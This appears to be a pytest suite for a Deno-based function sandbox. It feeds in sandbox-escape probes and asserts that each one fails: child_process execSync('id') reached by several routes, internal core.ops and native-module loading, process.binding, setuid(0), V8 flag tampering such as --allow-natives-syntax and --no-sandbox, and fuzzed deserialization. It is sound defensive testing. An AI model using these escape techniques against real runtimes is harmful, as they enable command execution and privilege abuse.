"""Attacks by what is inside the engine: Deno's own operations, V8's flags, Node's back doors."""

from pathlib import Path

import pytest

from tests.attacks.arena import Arena, children

pytestmark = pytest.mark.runtime

INSIDE = {
    # what: (errors that are right, code)
    "operations": (
        {"reached: []"},
        """const risky = /spawn|kill|ffi|dlopen|open_sync|_file|connect|listen|worker/;
        return Object.keys(core.ops).filter((name) => risky.test(name))""",
    ),
    "native module": (
        {"NotCapable", "TypeError"},
        "return core.ops.op_napi_open(canary, globalThis, () => {}, () => {})",
    ),
    "native module by require": (
        {"NotCapable", "ended: runtime-exception"},
        "const M = (await node('module')).Module; return M._extensions['.node']({}, '/tmp/x.node')",
    ),
    "update of the program": (
        {"Error", "TypeError"},
        "core.ops.op_desktop_init(); return core.ops.op_desktop_apply_patch(new Uint8Array(9))",
    ),
    "report of an error": (
        {"reached: null", "TypeError"},
        """const said = core.ops.op_desktop_send_error_report("http://203.0.113.10/", "x", "y");
        await new Promise((done) => setTimeout(done, 200)); return said ?? null""",
    ),
    "window": ({"ended: crashed", "TypeError"}, "return new core.ops.BrowserWindow({})"),
    "tray": ({"ended: crashed", "TypeError"}, "return new core.ops.Tray({})"),
    "clipboard": ({"reached: null"}, "return core.ops.op_desktop_read_clipboard_text() ?? null"),
    "inner module": ({"TypeError"}, "return import('ext:core/ops')"),
    "inner module by an inner name": (
        {"TypeError"},
        "return core.evalContext('import(`ext:core/ops`)', 'ext:deno_node/x.js')[0]",
    ),
    "inner module by a compiled function": (
        {"TypeError", "Error"},
        """const made = core.compileFunction("return import('ext:core/ops')", "ext:x.js", []);
        return (made[0] ?? made)()""",
    ),
    "file by an inner name": (
        {"TypeError"},
        "return core.evalContext('import(`file:///etc/passwd`)', 'ext:deno_node/x.js')[0]",
    ),
    "loader of inner scripts": ({"TypeError"}, "return core.loadExtScript('ext:deno_node/x.js')"),
    "binding": ({"Error", "TypeError"}, "return (await node('process')).binding('fs')"),
    "binding of the main": (
        {"Error", "TypeError", "NotCapable"},
        """const p = await node('process');
        return p.default.binding('spawn_sync').spawn({ file: '/bin/true', args: [] })""",
    ),
    "main module": (
        {"NotCapable", "TypeError", "Error"},
        "return process.mainModule.require('child_process').execSync('id')",
    ),
    "module of a module": (
        {"NotCapable", "TypeError", "Error"},
        "return module.constructor._load('child_process').execSync('id')",
    ),
    "require's own": (
        {"TypeError"},
        "return require.main.require('child_process').execSync('id')",
    ),
    "child process of Node's": (
        {"NotCapable"},
        "return (await node('child_process')).spawnSync('/bin/true').error.name",
    ),
    "process over the channel": (
        {"NotCapable"},
        """return new D.Command('/bin/true', { stdin: 'inherit', stdout: 'inherit' }).spawn()""",
    ),
    "cluster": ({"NotCapable", "Error"}, "return (await node('cluster')).default.fork()"),
    "signal to itself": (
        {"NotCapable", "Error", "ended: crashed"},
        "const p = await node('process'); return p.kill(p.pid, 'SIGKILL')",
    ),
    "signal to its group": ({"NotCapable", "Error"}, "return D.kill(0, 'SIGKILL')"),
    "signals that are listened to": (
        {"reached: undefined", "reached: null"},
        "return D.addSignalListener('SIGTERM', () => {})",
    ),
    "identity": ({"NotCapable", "TypeError"}, "return (await node('process')).setuid(0)"),
    "report of the process": (
        {"reached: "},  # it writes nothing
        "return (await node('process')).default.report.writeReport('/tmp/attack')",
    ),
    "natives syntax": (
        {"SyntaxError"},
        """(await node('v8')).setFlagsFromString('--allow-natives-syntax');
        return new Function('return %GetOptimizationStatus(1)')()""",
    ),
    "natives syntax at once": (
        {"SyntaxError"},
        "return new Function('return %DebugPrint(1)')()",
    ),
    "flags of sandboxes": (
        {"RangeError", "ended: memory-exceeded", "ended: crashed"},
        """const v8 = await node('v8');
        for (const flag of ['--no-sandbox', '--max-heap-size=9999', '--wasm-max-mem-pages=65536',
          '--stack-size=900000', '--jitless', '--correctness-fuzzer-suppressions']) {
          v8.setFlagsFromString(flag);
        }
        return (function deeper(n) { return deeper(n + 1) + 1; })(0)""",
    ),
    "flags of a log": (
        {"reached: 1"},
        """const v8 = await node('v8');
        for (const flag of ['--prof', '--log-all', '--logfile=/tmp/attack.log', '--trace-gc',
          '--redirect-code-traces-to=/tmp/attack', '--perf-prof']) v8.setFlagsFromString(flag);
        for (let n = 0; n < 1e5; n++) JSON.parse('{"a":[1]}');
        return 1""",
    ),
    "startup snapshot": (
        {"reached: undefined"},
        "return (await node('v8')).startupSnapshot.addSerializeCallback(() => {})",
    ),
    "deserialised objects": (
        {"Error", "TypeError", "RangeError", "DataCloneError", "reached: undefined"},
        """const v8 = await node('v8');
        let said; for (let n = 0; n < 2000; n++) {
          const bytes = Uint8Array.from({ length: 40 }, (_, i) => (n * 31 + i * 17 * n) % 256);
          bytes.set([255, 15]); try { said = v8.deserialize(Buffer.from(bytes)); } catch (e) {}
        }
        throw new Error("read")""",
    ),
    "deserialised by the core": (
        {"Error"},
        """for (let n = 0; n < 500; n++) try {
          core.deserialize(Uint8Array.of(255, 15, n % 256, 92, n % 7, 1, 2, 3, 4));
        } catch {}
        throw new Error("read")""",
    ),
    "telemetry": (
        {"TypeError", "reached: false", "reached: undefined", "reached: null"},
        "return D.telemetry?.tracerProvider ? false : undefined",
    ),
    "test runner": ({"Error", "TypeError", "reached: undefined"}, "return D.test('x', () => {})"),
    "old process API": (
        {"NotCapable", "TypeError", "Error"},
        "return D.run({ cmd: ['/bin/true'] }).pid",
    ),
    "graphics": (
        {"Error", "TypeError", "reached: null", "ended: crashed"},
        "return await navigator.gpu.requestAdapter()",
    ),
    "images": (
        {"Error", "TypeError", "InvalidStateError", "DOMException", "ended: crashed"},
        "return await createImageBitmap(new Blob([new Uint8Array(99)], { type: 'image/png' }))",
    ),
    "terminal": ({"Error", "NotCapable", "BadResource"}, "return D.stdin.setRaw(true)"),
    "terminal's size": ({"Error", "NotCapable"}, "return D.consoleSize()"),
    "exit code of others": ({"reached: null", "reached: undefined"}, "return D.exitCode = 7, null"),
    "end of the process": (
        {"ended: crashed"},
        """(await node('process')).default.on('exit', () => {});
        return (await node('process')).default.reallyExit()""",
    ),
}


@pytest.mark.parametrize("attack", INSIDE)
def test_inside(arena: Arena, attack: str) -> None:
    right, code = INSIDE[attack]

    assert arena.probe(code, timeout_s=10) in right


def test_facts_that_are_no_secret(arena: Arena) -> None:
    """A function may learn where the program lies and which one it is, and nothing else of it."""
    said = arena.probe(
        """return { facts: [D.cwd(), D.execPath(), D.mainModule, D.pid, D.ppid, D.build.target],
          rss: D.memoryUsage().rss }"""
    )

    assert said.startswith("reached: ")


def test_root_of_the_kernel_is_not_the_functions(arena: Arena) -> None:
    """Even a supervisor that is root gives its sandboxes no capability."""
    arena.run("function lambda() { for (;;); }", timeout_s=0.2)

    sandboxes = children(arena.supervisor)
    assert sandboxes
    for pid in sandboxes:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
        status = dict(line.split(":\t", 1) for line in lines)
        assert int(status["CapEff"], 16) == int(status["CapPrm"], 16) == 0
        assert status["NoNewPrivs"] == "1"
        if "seccomp" in arena.layers:
            assert status["Seccomp"] == "2"
